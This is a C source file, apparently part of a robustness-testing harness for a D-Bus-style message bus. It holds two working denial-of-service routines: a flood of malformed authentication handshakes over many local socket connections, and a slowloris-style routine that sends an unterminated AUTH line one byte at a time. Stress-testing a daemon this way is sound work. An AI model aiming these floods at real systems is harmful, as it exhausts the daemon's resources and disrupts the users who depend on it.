/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

/* Input that only the control plane handles: lists of mechanisms, cookies, cancellations, and garbage. */
static const char lines[] =
    "\0AUTH\r\nAUTH DBUS_COOKIE_SHA1 3635353334\r\nCANCEL\r\nERROR \"no\"\r\nAUTH NONE 00\r\n"
    "AUTH EXTERNAL\r\nDATA\r\nNEGOTIATE_UNIX_FD\r\nBEGIN\r\n";

static int dial(void)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof(address.sun_path), "%s", strchr(options.address, '=') + 1);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    if (fd >= 0 && connect(fd, (void *)&address, sizeof(address))) {
        close(fd);
        fd = -1;
    }
    return fd;
}

/* --count connections at a time send such input, and disconnect during or after it. */
void handshakes(void *argument)
{
    int n = attack_options.count, *all = malloc((size_t)n * sizeof(*all));
    (void)argument;
    if (!all)
        die("out of memory");
    memset(all, 0xff, (size_t)n * sizeof(*all));
    hostile_set_uid();
    process_ready();
    for (int i = 0;; i = (i + 1) % n) {
        if (all[i] >= 0)
            close(all[i]);
        all[i] = dial();
        if (all[i] < 0) {
            usleep(200);
            continue;
        }
        size_t size = random() % 2 ? sizeof(lines) - 1 : (size_t)(random() % (long)(sizeof(lines) - 2)) + 1;
        if (send(all[i], lines, size, MSG_NOSIGNAL) > 0)
            atomic_fetch_add(&shared->harm, 1);
    }
}

/* --count connections send an unterminated line, a byte at a time. */
void slow_handshakes(void *argument)
{
    int n = attack_options.count, *all = malloc((size_t)n * sizeof(*all));
    (void)argument;
    if (!all)
        die("out of memory");
    memset(all, 0xff, (size_t)n * sizeof(*all));
    hostile_set_uid();
    process_ready();
    for (int i = 0;; i = (i + 1) % n) {
        if (all[i] < 0) {
            all[i] = dial();
            if (all[i] < 0 || send(all[i], "\0AUTH ", 6, MSG_NOSIGNAL) != 6)
                usleep(100);
            continue;
        }
        if (send(all[i], "A", 1, MSG_NOSIGNAL) == 1) {
            atomic_fetch_add(&shared->harm, 1);
        } else if (errno != EAGAIN) {
            close(all[i]);
            all[i] = -1;
        }
    }
}
